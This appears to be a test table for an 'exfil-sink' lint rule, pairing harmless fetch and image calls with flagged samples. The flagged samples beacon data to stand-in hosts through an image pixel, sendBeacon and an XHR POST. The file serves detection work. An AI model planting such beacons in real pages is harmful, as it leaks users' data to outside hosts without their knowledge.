import rule from './exfil-sink.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "new Image().src = 'https://cdn.example/logo.png';",
    "fetch('/api/cart', {method:'POST', body: JSON.stringify(cart)});",
    "img.src = '/static/' + name + '.png';",
    "fetch(url, {method: 'POST', body: data});",
  ],
  invalid: [
    { code: "new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'medium' },
    { code: "navigator.sendBeacon('https://b.example/c', payload);", messageIds: ['beacon'] },
    { code: "var x = new XMLHttpRequest(); x.open('POST', 'https://c.example/x'); x.send(body);", messageIds: ['beacon'] },
  ],
});
